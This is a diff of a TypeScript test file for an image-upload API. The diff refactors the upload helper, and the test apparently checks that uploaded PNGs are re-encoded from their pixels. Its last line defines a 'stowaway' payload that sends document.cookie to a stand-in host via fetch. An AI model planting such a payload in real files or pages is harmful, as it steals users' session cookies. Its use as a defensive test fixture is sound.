@@ -2,6 +2,7 @@ import { crc32 } from 'node:zlib'
 import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { startTestApp, type TestApp } from '../../support/app/test-app.ts'
+import { client } from '../../support/app/client.ts'
 import { signUp, type Member } from '../../support/app/members.ts'
 
 let app: TestApp
@@ -12,11 +13,7 @@ beforeAll(async () => {
 })
 afterAll(() => app.close())
 
-async function upload(payload: Buffer) {
-  const headers = { ...editor.headers, 'content-type': 'image/png' }
-  const response = await app.inject({ method: 'POST', url: '/api/pictures', payload, headers })
-  return { status: response.statusCode, body: response.json() }
-}
+const upload = (file: Buffer) => client(app, editor).upload('/api/pictures', 'image/png', file)
 
 /** Nothing that a filter would know: only what is made anew from its pixels is sure to be without it. */
 const stowaway = Buffer.from('=1;fetch("//elsewhere.example/"+document.cookie)//')
